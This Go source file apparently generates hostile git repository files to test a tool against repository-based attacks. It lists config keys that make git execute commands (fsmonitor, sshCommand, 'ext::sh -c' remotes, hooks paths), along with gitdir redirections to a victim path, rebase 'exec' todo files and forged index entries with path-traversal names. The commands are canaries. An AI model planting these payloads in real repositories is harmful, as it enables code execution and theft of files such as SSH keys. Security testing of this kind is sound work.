package gitattack

import (
	"crypto/sha1"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"path"
	"sort"
	"strings"
)

// commandKeys are keys of git's configuration whose value git executes, or that lead to one; %s is the command.
var commandKeys = []string{
	"[core]\n\tfsmonitor = \"%s; false\"\n", "[core]\n\tsshCommand = \"%s; false\"\n\n[remote \"origin\"]\n\turl = ssh://h/x\n",
	"[core]\n\teditor = \"%s; true\"\n", "[sequence]\n\teditor = \"%s; true\"\n", "[core]\n\taskPass = \"%s\"\n",
	"[core]\n\tgitProxy = \"%s\"\n[remote \"origin\"]\n\turl = git://h/x\n", "[core]\n\talternateRefsCommand = \"%s\"\n",
	"[alias]\n\tst = \"!%s\"\n\tlg = \"!%s\"\n", "[diff]\n\texternal = \"%s; true\"\n", "[diff \"x\"]\n\ttextconv = \"%s; cat\"\n\tcommand = \"%s; true\"\n",
	"[filter \"x\"]\n\tclean = \"%s; cat\"\n\tsmudge = \"%s; cat\"\n\trequired\n", "[filter \"x\"]\n\tprocess = \"%s\"\n",
	"[merge \"x\"]\n\tdriver = \"%s; true\"\n", "[merge]\n\tdefault = x\n[merge \"x\"]\n\tdriver = \"%s\"\n",
	"[gpg]\n\tprogram = \"{script}\"\n[commit]\n\tgpgSign = true\n[log]\n\tshowSignature = true\n",
	"[credential]\n\thelper = \"!%s\"\n", "[remote \"origin\"]\n\tuploadpack = \"%s;git-upload-pack\"\n\treceivepack = \"%s;git-receive-pack\"\n",
	"[remote \"origin\"]\n\turl = \"ext::sh -c %%s\"\n[protocol \"ext\"]\n\tallow = always\n", "[remote \"origin\"]\n\tvcs = ext\n\turl = \"sh -c %s\"\n[protocol]\n\tallow = always\n",
	"[url \"ext::sh -c '%s' \"]\n\tinsteadOf = /\n[protocol]\n\tallow = always\n", "[submodule \"lib\"]\n\tupdate = \"!%s\"\n\tactive = true\n",
	"[include]\n\tpath = {ws}/evil/config\n", "[includeIf \"gitdir:/\"]\n\tpath = {ws}/evil/config\n", "[core]\n\thooksPath = {ws}/evil/hooks\n",
	"[core]\n\tworktree = {victim}\n", "[core]\n\tbare = false\n\tworktree = {ws}\n\tfsmonitor = \"%s; false\"\n", "[core]\n\tattributesFile = {ws}/evil/attributes\n[filter \"x\"]\n\tclean = \"%s\"\n",
	"[uploadpack]\n\tpackObjectsHook = \"%s\"\n", "[trailer \"x\"]\n\tcommand = \"%s\"\n", "[pager]\n\tstatus = \"%s\"\n\tlog = \"%s\"\n\tdiff = \"%s\"\n",
	"[interactive]\n\tdiffFilter = \"%s\"\n", "[init]\n\ttemplateDir = {ws}/evil/template\n", "[difftool \"x\"]\n\tcmd = \"%s\"\n",
	"[branch \"main\"]\n\tremote = {ws}/evil\n\tmerge = refs/heads/main\n\tmergeOptions = -s x/evil\n", "[pull]\n\ttwohead = x/evil\n",
	"[remote \"origin\"]\n\tpushurl = {ws}/evil\n", "[remote \"origin\"]\n\turl = {ws}/evil\n", "[remote \"origin\"]\n\turl = /proc/self/root{ws}/evil\n",
	"[remote \"origin\"]\n\turl = /proc/self/cwd/evil\n", "[remote \"origin\"]\n\turl = file://{ws}/evil\n", "[remote]\n\tpushDefault = evil\n",
	"[extensions]\n\tworktreeConfig = true\n", "[commit]\n\ttemplate = {home}/.ssh/id\n", "[receive]\n\tprocReceiveRefs = refs\n", "[sendpack]\n\tsideband = false\n",
}

// configText is a configuration of the tool's.
func configText(w *world, r *rand.Rand) []byte {
	key := commandKeys[r.IntN(len(commandKeys))]
	if r.IntN(4) == 0 {
		key += commandKeys[r.IntN(len(commandKeys))]
	}
	return expand(w, "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n"+key)
}

func expand(w *world, text string) []byte {
	text = strings.ReplaceAll(strings.ReplaceAll(text, "%%s", "touch% "+w.canary+"/hit"), "%s", w.shout())
	return []byte(strings.NewReplacer("{ws}", w.ws, "{home}", w.home, "{victim}", w.victim, "{script}", w.ws+"/evil/program", "{head}", w.head, "{topic}", w.topic).Replace(text))
}

// payload is a content of the kind that git expects of a file of this name, one that is of use to the tool.
func payload(w *world, r *rand.Rand, name string) []byte {
	pick := func(texts ...string) []byte { return expand(w, texts[r.IntN(len(texts))]) }
	base := strings.ToLower(path.Base(strings.TrimSuffix(name, ".lock")))
	switch {
	case strings.HasPrefix(base, "config"), base == ".gitconfig":
		return configText(w, r)
	case strings.Contains(name, "hooks/"), strings.Contains(name, "git-merge-"):
		return w.script()
	case base == ".git", base == "gitdir" && r.IntN(3) == 0:
		return pick("gitdir: {ws}/evil\n", "gitdir: evil\n", "gitdir: ../evil\n", "gitdir: .git/worktrees/w/d/..\n", "gitdir: ../.git/modules/m\n", "gitdir: /proc/self/cwd/evil\n", "gitdir: {victim}\n")
	case base == "commondir":
		return pick("{ws}/evil\n", "../../evil\n", "../..\n", "../../../evil\n", "/proc/self/cwd/evil\n")
	case base == "gitdir":
		return pick("{victim}/.git\n", "{home}/.git\n", "{ws}/evil/.git\n")
	case base == "index", strings.HasPrefix(base, "sharedindex"):
		return forgedIndex(w, r)
	case base == "git-rebase-todo", base == "todo", base == "done", base == "git-rebase-todo.backup":
		return pick("exec %s\n", "x %s\n", "pick {topic} t\nexec %s\n", "pick {topic} t\n", "label ../../x\nexec %s\n", "merge -C {topic} x/evil\n", "reset {head}\nexec %s\n")
	case base == "strategy":
		return pick("x/evil\n", "ours\n", "../evil\n")
	case base == "opts":
		return pick("[options]\n\tstrategy = x/evil\n", "[options]\n\tgpg-sign = x\n")
	case base == "apply-opt":
		return pick("'--build-fake-ancestor={victim}/file'\n", "'--directory=../victim' '--unsafe-paths'\n", " '--build-fake-ancestor={home}/.bashrc'\n")
	case base == "next", base == "msgnum":
		return []byte("1\n")
	case base == "last", base == "end":
		return []byte("2\n")
	case base == "head-name":
		return pick("refs/heads/main\n", "refs/heads/../../hooks/x\n", "detached HEAD\n")
	case base == "attributes", base == ".gitattributes":
		return []byte("* filter=x diff=x merge=x\n")
	case base == "alternates":
		return pick("{ws}/evil/objects\n", "{home}\n")
	case strings.Contains(name, "remotes/"):
		return pick("URL: {ws}/evil\nPush: HEAD:refs/heads/z\nPull: main:x\n", "URL: ext::sh -c touch% {ws}\n", "URL: evil\n")
	case strings.Contains(name, "branches/"):
		return pick("{ws}/evil#main\n", "evil\n")
	case base == "merge_rr":
		return append([]byte(w.head+"\t../home/.ssh/id"), 0)
	case base == "head":
		return pick("ref: refs/heads/main\n", "ref: refs/heads/x\n", "{head}\n", "{topic}\n", "ref: refs/../config\n", "ref: hooks/post-checkout\n")
	case base == ".gitmodules":
		return pick("[submodule \"lib\"]\n\tpath = lib\n\turl = ./evil\n\tupdate = !%s\n", "[submodule \"../../x\"]\n\tpath = lib\n\turl = ./evil\n", "[submodule \"lib\"]\n\tpath = ../victim\n\turl = ./evil\n")
	case strings.Contains(name, "refs/"), strings.HasSuffix(base, "_head"), base == "onto", base == "orig-head", base == "amend", base == "autostash", base == "abort-safety", base == "stopped-sha":
		return pick("{head}\n", "{topic}\n", "ref: refs/heads/main\n")
	case base == "packed-refs":
		return pick("# pack-refs with: peeled fully-peeled sorted \n{head} refs/heads/main\n{topic} refs/heads/$(touch x)\n", "{head} refs/heads/../../../victim/x\n")
	case base == "program", strings.HasSuffix(base, ".sh"):
		return w.script()
	}
	return pick("x\n", "", "%s\n", "{ws}/evil\n", "exec %s\n")
}

// badNames are entries that git would never add to an index, and does not look for in one that it reads.
func badNames(w *world) []string {
	return []string{"../victim/new", ".git/hooks/post-checkout", ".git/hooks/post-index-change", w.victim + "/file", "../home/.bashrc", ".git/config", "d/../../victim/dir/file", ".GIT/hooks/pre-commit",
		"a/.git/config", "lib/.git", "wt/.git", ".git/modules/lib/hooks/post-checkout"}
}

func forgedIndex(w *world, r *rand.Rand) []byte {
	names := badNames(w)
	return index(w.blob, names[r.IntN(len(names))], names[r.IntN(len(names))])
}

// index is an index file, version 2, whose entries are executable and have this blob for their content.
func index(blob string, names ...string) []byte {
	sort.Strings(names)
	names = compact(names)
	b := binary.BigEndian.AppendUint32([]byte("DIRC\x00\x00\x00\x02"), uint32(len(names)))
	oid, _ := hex.DecodeString(blob)
	for _, n := range names {
		e := make([]byte, 24, 80) // times and device: unknown
		e = binary.BigEndian.AppendUint32(e, 0o100755)
		e = append(append(e, make([]byte, 12)...), oid...)
		e = binary.BigEndian.AppendUint16(e, uint16(min(len(n), 0xfff)))
		e = append(e, n...)
		b = append(append(b, e...), make([]byte, 8-len(e)%8)...)
	}
	sum := sha1.Sum(b)
	return append(b, sum[:]...)
}

func compact(list []string) []string {
	var out []string
	for i, s := range list {
		if i == 0 || s != list[i-1] {
			out = append(out, s)
		}
	}
	return out
}

// patch is a mail for git am that changes nothing of importance.
func patch() []byte {
	return fmt.Appendf(nil, "From %040d Mon Sep 17 00:00:00 2001\nFrom: u <u@example.com>\nDate: Thu, 1 Jan 2026 00:00:00 +0000\nSubject: [PATCH] x\n\n---\n"+
		"diff --git a/n b/n\nnew file mode 100644\nindex 0000000..587be6b\n--- /dev/null\n+++ b/n\n@@ -0,0 +1 @@\n+x\n--\n2.39\n", 1)
}
